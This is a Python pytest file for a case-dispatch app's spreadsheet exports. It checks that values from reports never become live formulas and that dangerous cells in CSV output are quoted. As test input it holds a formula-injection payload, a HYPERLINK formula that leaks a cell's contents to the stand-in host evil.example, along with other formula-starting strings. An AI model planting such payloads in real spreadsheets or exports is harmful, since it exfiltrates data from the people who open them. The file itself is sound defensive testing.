"""Case exports a spreadsheet opens: no cell that came from a report becomes a live formula (both stores)."""

import csv
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from dispatch.calendar import WorkingCalendar
from dispatch.io import export_cases, import_cases
from dispatch.sheet import formula_safe
from dispatch.table import Labels
from dispatch.workflow import Workflow

pytestmark = pytest.mark.slow
CAL = WorkingCalendar.load(Path(__file__).resolve().parents[2] / "data" / "xiamen" / "calendar.toml")
NOW = datetime(2026, 11, 27, 3, 0, tzinfo=UTC)
LABELS = Labels("zh", CAL.tz, {})  # codes stand for their names: these tests are about cells, not names
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"c")'
# every start OWASP names, and text that only looks like a number at first
DANGEROUS = [HYPERLINK, "+1+2", "-1+2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HARMLESS = ["-12.5", "垃圾 = 占道"]


@pytest.fixture
def hostile_cases(store, engine, tmp_path):
    """One imported case per description above, all at the same place."""
    wf = Workflow(store, engine, CAL, clock=lambda: NOW)
    path = tmp_path / "in.csv"
    pd.DataFrame({"matter": "06010", "lon": "118.13", "lat": "24.50", "description": DANGEROUS + HARMLESS}).to_csv(
        path, index=False, quoting=csv.QUOTE_ALL
    )  # quoted: one description holds a CR
    assert import_cases(wf, path, None, "importer") == len(DANGEROUS) + len(HARMLESS)
    return store.cases()


def test_xlsx_export_has_no_formulas(hostile_cases, tmp_path):
    export_cases(hostile_cases, tmp_path / "c.xlsx", "xlsx", LABELS)
    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    header = [c.value for c in next(sheet.iter_rows())]
    descriptions = [row[header.index("description")].value for row in sheet.iter_rows(min_row=2)]
    # the text itself survives, unquoted (XML reads a CR inside text as a line feed)
    assert sorted(descriptions) == sorted(d.replace("\r", "\n") for d in DANGEROUS + HARMLESS)
    lon = [row[header.index("lon")] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and c.value == 118.13 for c in lon)


def test_csv_export_quotes_dangerous_cells(hostile_cases, tmp_path):
    export_cases(hostile_cases, tmp_path / "c.csv", "csv", LABELS)
    with open(tmp_path / "c.csv", newline="", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    by_text = {r["description"].removeprefix("'"): r["description"] for r in rows}
    assert set(by_text) == set(DANGEROUS + HARMLESS)
    assert all(by_text[d] == "'" + d for d in DANGEROUS)
    assert all(by_text[h] == h for h in HARMLESS)
    assert {r["lon"] for r in rows} == {"118.13"}


def test_formula_safe_leaves_numbers_alone():
    df = pd.DataFrame({"lon": [-73.98, 118.1], "note": ["-1+2", "-73.98"], "=x": ["ok", None]})
    safe = formula_safe(df)
    assert safe["lon"].tolist() == [-73.98, 118.1]
    assert safe["note"].tolist() == ["'-1+2", "-73.98"]
    assert list(safe.columns) == ["lon", "note", "'=x"] and safe["'=x"].tolist()[0] == "ok"
    assert df["note"].tolist() == ["-1+2", "-73.98"]  # the caller's frame is not changed


def test_xlsx_export_survives_a_control_character_stored_earlier(engine, tmp_path):
    # an embedded store could take a NUL before imports refused it; the district export must still answer
    from dispatch.workflow import owners_of
    from store.models import NewCase, new_case

    owners = owners_of(engine.resolve(118.13, 24.50, "06010", NOW), "")
    case = new_case(NewCase("06010", 118.13, 24.50, "hotline", NOW, "a\x00b\x1b"), owners, "reported", "t", NOW, "B1")
    export_cases([case], tmp_path / "c.xlsx", "xlsx", LABELS)
    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx").active
    header = [c.value for c in sheet[1]]
    assert sheet.cell(2, header.index("description") + 1).value == "a\ufffdb\ufffd"
